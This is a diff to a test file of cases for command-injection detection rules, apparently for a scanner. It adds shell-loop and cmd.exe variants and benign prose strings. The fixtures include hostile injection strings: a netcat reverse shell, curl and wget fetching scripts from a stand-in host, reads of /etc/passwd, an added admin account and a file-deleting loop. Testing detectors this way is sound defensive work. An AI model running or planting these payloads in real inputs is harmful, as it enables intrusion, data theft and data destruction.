@@ -44,6 +44,11 @@ RULE_CASES: dict[str, list[str]] = {
         "& net user hacker P@ss /add",
         "\r\nwhoami",
         "127.0.0.1\nwhoami",
+        # a command after the word that opens a shell compound command's part
+        "while true; do id; done",
+        "x; if true; then whoami; fi",
+        "until false; do sleep 5; done",
+        "1; while :; do uname -a; done",
     ],
     "HG-CMDI-002": ["`id`", "$(cat /etc/passwd)", "test`sleep 5`", "a$(sleep 5)", "'$(id)'", "<(id)", "x >(sleep 5)"],
     "HG-CMDI-003": [
@@ -63,7 +68,17 @@ RULE_CASES: dict[str, list[str]] = {
         "| nc -e /bin/sh 10.0.0.1 4444",
         "; curl http://evil.example/x | sh",
     ],
-    "HG-CMDI-006": ["cat /etc/passwd", "wget http://evil.example/x.sh", "type C:\\Windows\\win.ini", "uname -a"],
+    "HG-CMDI-006": [
+        "cat /etc/passwd",
+        "wget http://evil.example/x.sh",
+        "type C:\\Windows\\win.ini",
+        "uname -a",
+        "cmd /c dir",  # cmd.exe runs the rest of the line after /c or /k, as sh does after -c
+        "CMD.EXE /K ping 10.0.0.1",
+        "cmd.exe /c for %i in (*) do del %i",
+        "powershell.exe -c Get-Process",  # a program named with its .exe
+        "bash.exe -c id",
+    ],
     "HG-CMDI-008": ['<!--#exec cmd="/bin/cat /etc/passwd"-->'],
     "HG-CMDI-009": ["system('cat /etc/passwd')", "eval('whoami');", 'os.system("id")'],
 }
@@ -92,6 +107,15 @@ BENIGN = [
     "const f = () =>(x)",
     "The $IFS variable splits words",
     "Line one\r\nLine two",
+    # compound-command words in prose; programs named with .exe but no command line
+    "First mix the flour; then add eggs",
+    "Enter the code; then cat food is served",
+    "If you can, do it; else leave it",
+    "while waiting; do nothing",
+    "cmd.exe",
+    "cmd /?",
+    "notepad.exe readme.txt",
+    "setup.exe",
 ]
 
 
